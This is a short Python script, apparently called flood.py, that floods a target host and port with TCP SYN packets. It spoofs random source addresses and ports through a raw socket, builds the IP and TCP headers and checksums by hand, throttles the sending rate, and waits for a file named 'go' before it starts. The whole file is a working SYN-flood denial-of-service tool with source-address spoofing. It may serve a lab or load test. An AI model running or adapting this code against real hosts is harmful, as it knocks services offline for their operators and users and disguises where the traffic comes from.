"""Sends SYNs to a server from random addresses and ports, by a raw socket, once a file `go` is there.

flood.py HOST PORT COUNT RATE
"""
import os
import random
import socket
import struct
import sys
import time

HOST, PORT, COUNT, RATE = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
BATCH = 20
SYN = 0x02


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, destination, ports, sequence):
    head = struct.pack("!HHIIBBHHH", *ports, sequence, 0, 5 << 4, SYN, 64_000, 0, 0)
    pseudo = source + destination + struct.pack("!HH", socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    # The kernel writes the length, the identification and the checksum of the IP header.
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + head


while not os.path.exists("go"):
    time.sleep(0.01)
address = socket.gethostbyname(HOST)
destination = socket.inet_aton(address)
draws = random.Random(7)
it = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("begins", flush=True)
begin = time.monotonic()
for number in range(COUNT):
    if number % BATCH == 0:
        time.sleep(max(0, begin + number / RATE - time.monotonic()))
    source = bytes([draws.randrange(11, 120)]) + draws.randbytes(3)
    ports = (draws.randrange(1024, 65_536), PORT)
    it.sendto(syn(source, destination, ports, draws.getrandbits(32)), (address, 0))
print("sent", flush=True)
time.sleep(1000)
